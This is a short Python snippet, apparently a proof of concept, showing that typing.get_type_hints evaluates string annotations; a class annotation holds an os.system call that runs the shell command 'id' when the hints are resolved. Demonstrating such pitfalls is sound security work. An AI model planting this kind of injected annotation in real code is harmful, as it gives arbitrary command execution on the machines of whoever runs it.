# get_type_hints evaluates string annotations.
import typing


class Payload:
    value: "__import__('os').system('id')"


typing.get_type_hints(Payload)
